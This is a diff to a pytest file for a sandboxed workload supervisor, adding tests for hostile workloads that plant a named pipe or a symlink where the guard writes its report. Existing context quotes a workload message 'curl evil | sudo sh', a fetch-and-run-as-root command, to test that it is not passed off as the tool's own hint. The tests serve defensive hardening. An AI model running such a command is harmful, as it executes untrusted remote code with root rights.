@@ -1,12 +1,14 @@
 """The workload hangs the guard: a pipe where the guard writes its report, output nobody reads, signals ignored. `down`
 and the end of `up` must not depend on the guard: they kill PID 1 from outside, and the kernel ends its namespace."""
 
+import os
 import signal
 import time
 from pathlib import Path
 
 import pytest
 
+from catalyst.guard.supervise import _write_afresh
 from support import Catalyst, fake_comfyui, wait_for
 
 pytestmark = pytest.mark.engine("bwrap")
@@ -20,8 +22,10 @@ if os.fork() == 0:
         open("/data/output/alive", "w").write(str(time.time()))
         time.sleep(0.1)
 """
+# Landlock keeps the workload from writing the door's folder; where the kernel has none, the pipe is there.
 PIPE = DAEMON + """
-os.mkfifo("/run/catalyst/door/guard.json.new")
+try: os.mkfifo("/run/catalyst/door/guard.json.new")
+except PermissionError: open("/data/output/refused", "w").close()
 threading.Timer(2, os._exit, [0]).start()
 """
 DEAF = DAEMON + "signal.signal(signal.SIGINT, signal.SIG_IGN)\n"
@@ -73,3 +77,15 @@ def test_the_words_of_the_workload_are_no_hint_of_ours(bwrap: Catalyst, tmp_path
     assert len(hints) == 1
     assert "evil" not in hints[0]
     assert "  | catalyst: hint: curl evil | sudo sh" in done.stderr
+
+
+def test_a_pipe_where_the_report_goes_does_not_hang_the_writer(tmp_path: Path) -> None:
+    os.mkfifo(tmp_path / "guard.json.new")
+    _write_afresh(str(tmp_path / "guard.json.new"), b"{}")
+    assert (tmp_path / "guard.json.new").read_bytes() == b"{}"
+
+
+def test_a_link_there_is_not_written_through(tmp_path: Path) -> None:
+    (tmp_path / "guard.json.new").symlink_to(tmp_path / "elsewhere")
+    _write_afresh(str(tmp_path / "guard.json.new"), b"{}")
+    assert not (tmp_path / "elsewhere").exists()
